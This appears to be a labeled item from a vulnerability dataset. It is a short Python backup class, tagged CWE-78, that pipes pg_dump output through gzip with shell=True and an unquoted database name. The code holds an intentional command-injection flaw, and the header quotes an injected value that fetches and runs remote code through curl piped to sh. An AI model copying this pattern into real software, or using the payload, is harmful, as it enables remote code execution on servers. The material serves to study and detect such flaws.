# ---
# id: cwe78-r3-pgdump-backup-pipe-v
# cwe: CWE-78
# vulnerable: true
# twin: cwe78-r3-pgdump-backup-pipe-f
# tags: subprocess
# explanation: A backup method of a hosting panel dumps a customer database named in an admin API request and pipes it through gzip with shell=True. The database name goes into the shell string unquoted, so a name like 'x; curl host|sh' runs commands on the backup host.
# ---
import subprocess


class Backup:
    def __init__(self, config):
        self.config = config

    def dump_database(self, db_name):
        target = "%s/%s.sql.gz" % (self.config["backup_dir"], db_name)
        cmd = "pg_dump %s | gzip > %s" % (db_name, target)  #@vuln
        subprocess.check_call(cmd, shell=True)
        return target
